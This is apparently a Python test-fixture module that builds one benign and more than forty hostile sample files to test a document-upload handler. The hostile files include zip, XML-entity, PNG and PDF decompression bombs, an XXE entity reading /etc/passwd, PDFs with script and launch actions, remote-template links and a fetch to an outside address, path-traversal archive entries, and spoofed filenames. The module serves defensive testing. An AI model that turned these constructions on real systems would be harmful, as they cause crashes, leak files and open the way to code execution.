"""Files made by code: honest ones, and more than forty that are made to do harm."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO

import pikepdf
from PIL import Image

CONTENT_TYPES = b"""<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Override PartName="/word/document.xml" ContentType="%s"/></Types>"""
WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_WORD = b"application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONSHIPS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def a_zip(parts: Mapping[str, bytes]) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def a_docx(
    body: str = "<w:p><w:r><w:t>Advice for Tamsin.</w:t></w:r></w:p>",
    types: bytes = WORD,
    more: Mapping[str, bytes] | None = None,
) -> bytes:
    """A Word document; ``more`` are its further parts."""
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    parts = {
        "[Content_Types].xml": CONTENT_TYPES % types,
        "word/document.xml": document.encode(),
    }
    return a_zip({**parts, **(more or {})})


def a_linked_docx(kind: str, target: str) -> bytes:
    links = RELATIONSHIPS.format(kind=kind, target=target).encode()
    return a_docx(more={"word/_rels/document.xml.rels": links})


def a_picture(form: str = "PNG", size: tuple[int, int] = (64, 48)) -> bytes:
    made = BytesIO()
    Image.new("RGB", size, (30, 90, 120)).save(made, form)
    return made.getvalue()


def a_png_of(width: int, height: int) -> bytes:
    """A small PNG that unpacks to ``width`` by ``height`` grey dots."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content))
            + kind
            + content
            + struct.pack(">I", zlib.crc32(kind + content))
        )

    rows = noughts_packed((1 + width) * height)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def noughts_packed(count: int) -> bytes:
    """``count`` noughts as zlib packs them, of one block over and over: a bomb is made at once."""
    block = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    again = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(count % block)) + packer.flush()
    check = struct.pack(">I", (count % 65_521) << 16 | 1)  # Adler-32 of noughts
    return b"\x78\xda" + again * (count // block) + rest + check


def a_jpeg_with_place() -> bytes:
    """A photograph that carries where it was taken."""
    made = BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Marker Camera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 26.0)
    Image.new("RGB", (80, 40), (90, 120, 30)).save(made, "JPEG", exif=exif)
    return made.getvalue()


def a_pdf(
    change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, words: str = ""
) -> bytes:
    made = BytesIO()
    with pikepdf.new() as pdf:
        for number in range(1, pages + 1):
            page = pdf.add_blank_page(page_size=(595, 842))
            font = pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
            )
            page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
            line = words or f"Advice, page {number}"
            page.obj.Contents = pdf.make_stream(f"BT /F1 18 Tf 72 760 Td ({line}) Tj ET".encode())
        if change is not None:
            change(pdf)
        pdf.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def _script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('marker')")
    )


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))


def _inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ" + bytes(100), filename="evil.exe"
    )


def _named_script(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1"))
    names = pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(action)])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def _huge_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.MediaBox = pikepdf.Array([0, 0, 2_000_000, 2_000_000])


def _page_tree_in_a_circle(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def _stream_bomb(pdf: pikepdf.Pdf) -> None:
    """A picture of 30,000 by 30,000 dots, from some kilobytes packed twice over."""
    raw = zlib.compress(noughts_packed(100_000_000), 9)
    bomb = pikepdf.Stream(pdf, raw)
    bomb.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=30_000,
        Height=30_000,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]),
    )
    page = pdf.pages[0].obj
    page.Resources.XObject = pikepdf.Dictionary(X=pdf.make_indirect(bomb))
    page.Contents = pdf.make_stream(b"595 0 0 842 0 0 cm /X Do")


def _endless_drawing(pdf: pikepdf.Pdf) -> None:
    """Forms that draw each other ten times, nine deep: a thousand million lines."""
    inner = pikepdf.Stream(pdf, b"0 0 m 500 800 l S " * 10)
    inner.stream_dict = _form({})
    for _ in range(9):
        outer = pikepdf.Stream(pdf, b"/X Do " * 10)
        outer.stream_dict = _form({"/X": pdf.make_indirect(inner)})
        inner = outer
    page = pdf.pages[0].obj
    page.Resources.XObject = pikepdf.Dictionary({"/X": pdf.make_indirect(inner)})
    page.Contents = pdf.make_stream(b"/X Do")


def _form(inside: dict[str, pikepdf.Object]) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=pikepdf.Array([0, 0, 595, 842]),
        Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(inside)),
    )


def a_locked_pdf() -> bytes:
    made = BytesIO()
    with pikepdf.open(BytesIO(a_pdf())) as pdf:
        pdf.save(made, encryption=pikepdf.Encryption(user="secret words", owner="others", R=6))
    return made.getvalue()


def _an_entity_bomb() -> bytes:
    entities = "".join(
        f'<!ENTITY e{depth} "{f"&e{depth - 1};" * 10}">' if depth else '<!ENTITY e0 "ha">'
        for depth in range(9)
    )
    text = (
        f"<!DOCTYPE w:document [{entities}]><w:document {W}><w:body>"
        "<w:p><w:r><w:t>&e8;</w:t></w:r></w:p></w:body></w:document>"
    )
    return a_zip({"[Content_Types].xml": CONTENT_TYPES % WORD, "word/document.xml": text.encode()})


def _an_outside_entity() -> bytes:
    text = (
        f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body>'
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return a_zip({"[Content_Types].xml": CONTENT_TYPES % WORD, "word/document.xml": text.encode()})


def _twin_parts() -> bytes:
    plain = a_docx()
    made = BytesIO(plain)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("WORD/DOCUMENT.XML", b"<other/>")
    return made.getvalue()


def _lying_sizes() -> bytes:
    """A bomb whose table of contents says that it is small."""
    made = bytearray(a_docx(more={"word/media/big.xml": bytes(60_000_000)}))
    small, big = struct.pack("<I", 10), struct.pack("<I", 60_000_000)
    return bytes(made.replace(big, small))


def _deep(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def _many_parts() -> bytes:
    return a_docx(more={f"word/part{number}.xml": b"" for number in range(5_000)})


def _locked_part() -> bytes:
    made = bytearray(a_docx())
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        offset = 6 if start == b"PK\x03\x04" else 8
        at = made.find(start)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(start, at + 4)
    return bytes(made)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
PROGRAM = b"MZ\x90\0" + bytes(2000)


#: What is wrong with each file, the name it comes under, and how it is made: whoever asks for
#: no more than the names, as every worker does while it collects, packs no bombs.
HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("advice.pdf", lambda: b""),
    "a program named as a PDF": ("advice.pdf", lambda: PROGRAM),
    "a program by name": ("advice.pdf.exe", lambda: PROGRAM),
    "a program named as text": ("notes.txt", lambda: PROGRAM),
    "a Linux program named as a picture": ("photo.png", lambda: b"\x7fELF" + bytes(500)),
    "a script": ("advice.js", lambda: b"alert(1)"),
    "a shortcut": ("advice.pdf.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(90)),
    "a web page": ("advice.html", lambda: b"<script>fetch('http://203.0.113.9')</script>"),
    "an old Word file": ("advice.doc", lambda: OLE),
    "an old Word file named as a new one": ("advice.docx", lambda: OLE),
    "an Outlook message": ("message.msg", lambda: OLE),
    "rich text": ("advice.rtf", lambda: b"{\\rtf1\\objdata 00}"),
    "rich text named as Word": ("advice.docx", lambda: b"{\\rtf1\\objdata 00}"),
    "a macro document by name": ("advice.docm", lambda: a_docx(types=MACRO_WORD)),
    "a macro document renamed": ("advice.docx", lambda: a_docx(types=MACRO_WORD)),
    "macros in a Word document": ("advice.docx", lambda: a_docx(more={"word/vbaProject.bin": OLE})),
    "macros in another case": ("advice.docx", lambda: a_docx(more={"word/VBAPROJECT.BIN": OLE})),
    "an embedded object": (
        "advice.docx", lambda: a_docx(more={"word/embeddings/oleObject1.bin": OLE})
    ),
    "an active control": ("advice.docx", lambda: a_docx(more={"word/activeX/activeX1.bin": OLE})),
    "a template from a server": (
        "advice.docx", lambda: a_linked_docx("attachedTemplate", "http://203.0.113.9/t.dotm")
    ),
    "a picture from a share": ("advice.docx", lambda: a_linked_docx("image", "file://203.0.113.9/s/x.png")),
    "an object from a server": (
        "advice.docx", lambda: a_linked_docx("oleObject", "mhtml:http://203.0.113.9/x!")
    ),
    "an entity bomb": ("advice.docx", _an_entity_bomb),
    "an outside entity": ("advice.docx", _an_outside_entity),
    "a zip bomb": ("advice.docx", lambda: a_docx(more={"word/media/a.bin": bytes(250_000_000)})),
    "a bomb with lying sizes": ("advice.docx", _lying_sizes),
    "a bomb of text": (
        "advice.docx", lambda: a_docx("<w:p><w:r><w:t>" + "ha" * 30_000_000 + "</w:t></w:r></w:p>")
    ),
    "a bomb of depth": ("advice.docx", lambda: a_docx(_deep(60_000))),
    "five thousand parts": ("advice.docx", _many_parts),
    "two parts of one name": ("advice.docx", _twin_parts),
    "a part outside the file": ("advice.docx", lambda: a_zip({
        "[Content_Types].xml": CONTENT_TYPES % WORD,
        "word/document.xml": b"<x/>",
        "../../start-up/evil.txt": b"x",
    })),
    "a part that says it is locked": ("advice.docx", _locked_part),
    "a Word document that is no XML": ("advice.docx", lambda: a_zip({
        "[Content_Types].xml": CONTENT_TYPES % WORD, "word/document.xml": b"\0\1\2 not <xml",
    })),
    "a bare zip named as Word": ("advice.docx", lambda: a_zip({"evil.exe": PROGRAM})),
    "a cut zip": ("advice.docx", lambda: a_docx()[:300]),
    "a PDF that runs a script": ("advice.pdf", lambda: a_pdf(_script)),
    "a PDF that starts a program": ("advice.pdf", lambda: a_pdf(_launch)),
    "a PDF with a script by name": ("advice.pdf", lambda: a_pdf(_named_script)),
    "a PDF with a file inside": ("advice.pdf", lambda: a_pdf(_inside)),
    "a PDF with an enormous page": ("advice.pdf", lambda: a_pdf(_huge_page)),
    "a PDF whose pages go in a circle": ("advice.pdf", lambda: a_pdf(_page_tree_in_a_circle)),
    "a PDF with a picture bomb": ("advice.pdf", lambda: a_pdf(_stream_bomb)),
    "a PDF that draws without end": ("advice.pdf", lambda: a_pdf(_endless_drawing)),
    "a locked PDF": ("advice.pdf", a_locked_pdf),
    "a PDF cut short": ("advice.pdf", lambda: a_pdf()[:400]),
    "a PDF of nonsense": ("advice.pdf", lambda: b"%PDF-1.7\n" + b"obj <<" * 5_000 + b"\n%%EOF"),
    "a PDF that is a zip as well": (
        "advice.pdf", lambda: a_pdf() + a_zip({"evil.exe": PROGRAM}) + b"%%EOF"
    ),
    "a picture of 944 million dots": ("photo.png", lambda: a_png_of(118_000, 8_000)),
    "a picture whose header lies": ("photo.png", lambda: a_png_of(10_000, 4_000).replace(
        struct.pack(">II", 10_000, 4_000), struct.pack(">II", 20_000, 2_000)
    )),
    "a picture cut short": ("photo.jpg", lambda: a_picture("JPEG", (900, 900))[:2_000]),
    "a picture with a zip behind it": (
        "photo.png", lambda: a_picture() + a_zip({"evil.exe": PROGRAM})
    ),
    "a picture with a web page behind it": (
        "photo.jpg", lambda: a_picture("JPEG") + b"<script>1</script>"
    ),
    "a GIF named as a PNG": ("photo.png", lambda: b"GIF89a" + bytes(100)),
    "an SVG named as a PNG": ("photo.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "an SVG": ("photo.svg", lambda: b"<svg/>"),
    "a name read backwards": ("advice\u202efdp.exe", lambda: PROGRAM),
    "a name read backwards that ends well": ("exe.\u202ecod\u202c.pdf", a_pdf),
    "a name with a control character": ("advice\x07.pdf", a_pdf),
    "a reserved name": ("CON.pdf", a_pdf),
    "a reserved name with more": ("com1.report.pdf", a_pdf),
    "a hidden stream": ("advice.txt:evil.exe", lambda: PROGRAM),
    "no name at all": (".pdf", a_pdf),
    "a name of four hundred letters": ("a" * 400 + ".pdf", a_pdf),
    "a web page named as text": ("notes.txt", lambda: b"<img src='file://203.0.113.9/s/x.png'>"),
}  # fmt: skip


@cache
def hostile_file(fault: str) -> tuple[str, bytes]:
    """The name that one of them comes under, and its bytes."""
    name, made = HOSTILE[fault]
    return name, made()
